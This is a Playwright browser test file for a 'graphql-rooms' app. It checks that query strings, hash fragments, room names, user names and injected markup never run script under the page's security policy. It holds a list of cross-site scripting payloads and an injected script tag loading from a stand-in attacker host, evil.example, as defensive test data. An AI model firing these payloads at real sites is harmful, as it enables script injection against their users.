import { assertEquals } from "@std/assert";
import type { Page } from "playwright-core";
import { assertClean, browserTest, openPage } from "../support/browser.ts";
import { startLocalServer } from "../support/local_server.ts";

const IMAGE = "<img src=x onerror=alert(1)>";
const USER = "<svg/onload=alert(1)>";
/** What stands behind a page's path: in its query, and in its hash. */
const ADDRESS = "?" + [
  "x=<script>alert(1)</script>",
  `title=${IMAGE}`,
  `room=${IMAGE}`,
  `operationName=</script>${IMAGE}`,
  `variables={"a":"</script>${IMAGE}"}`,
  "redirect=javascript:alert(1)",
  `__proto__[innerHTML]=${IMAGE}`,
  `"><svg onload=alert(1)>`,
].join("&") + `#"onfocus="alert(1)" autofocus="${IMAGE}javascript:alert(1)`;

/** The pages, each with its title and what is there once its script has run. */
const PAGES = [
  ["/", "graphql-rooms", "#name:focus"],
  ["/graphql", "GraphiQL · graphql-rooms", ".graphiql-editor"],
] as const;

browserTest(
  "no script of a stranger runs in a page: by its address, by what stands in a room, by what is injected",
  async (browser, t) => {
    await using server = await startLocalServer();
    const base = `http://127.0.0.1:${server.port}`;

    for (const [path, title, ready] of PAGES) {
      await using opened = await openPage(browser, "about:blank");
      const { page } = opened;
      const dialogs = trap(page);

      await t.step(`${path}: nothing of its address becomes markup or a script`, async () => {
        await page.goto(base + path + ADDRESS);
        await page.locator(ready).first().waitFor();

        assertEquals([dialogs, await page.title()], [[], title]);
        assertEquals(await page.locator("img[src=x], svg[onload], [onfocus]").count(), 0);
        assertClean(opened, server.port);
      });

      await t.step(`${path}: markup that is put into it runs no script, of its own or of another server`, async () => {
        const stopped = await page.evaluate(INJECT);

        assertEquals([stopped, dialogs], [["stopped", "stopped", "stopped"], []]);
      });

      await t.step(`${path}: the trap is one`, async () => {
        const shown = page.waitForEvent("dialog");
        await Promise.all([shown, page.evaluate("alert('seen')")]);

        assertEquals(dialogs, ["seen"]);
      });
    }

    await t.step("the console shows a room and a user of such names as they are", async () => {
      await using opened = await openPage(browser, base);
      const { page } = opened;
      const dialogs = trap(page);

      await page.getByLabel("Your name").fill(USER);
      await page.getByLabel("Room").fill(IMAGE);
      await page.getByRole("button", { name: "Join room" }).click();
      await page.locator("#members").getByText(USER).waitFor();
      await page.locator("#room-name").getByText(IMAGE, { exact: true }).waitFor();

      assertEquals(await page.title(), `${IMAGE} · graphql-rooms`);
      assertEquals(dialogs, []);
      assertEquals(await page.locator("img").count(), 0);
      assertClean(opened, server.port);
    });
  },
);

/** Puts scripts into the page in three ways; resolves with how each was stopped. */
const INJECT = `(async () => {
  const attempt = (run) =>
    new Promise((resolve) => {
      document.addEventListener("securitypolicyviolation", () => resolve("stopped"), { once: true });
      try {
        run();
      } catch {
        // Trusted types: the page's policy reports it as well.
      }
    });
  const append = (tag, fill) => {
    const element = document.createElement(tag);
    fill(element);
    document.body.append(element);
  };
  return [
    await attempt(() => append("div", (div) => div.innerHTML = "<img src=x onerror=alert(1)>")),
    await attempt(() => append("script", (script) => script.textContent = "alert(1)")),
    await attempt(() => append("script", (script) => script.src = "https://evil.example/evil.js")),
  ];
})()`;

/** Keeps the text of every dialog, and puts it away. */
function trap(page: Page): string[] {
  const dialogs: string[] = [];
  page.on("dialog", (dialog) => {
    dialogs.push(dialog.message());
    // The page may be gone by now.
    dialog.dismiss().catch(() => {});
  });
  return dialogs;
}
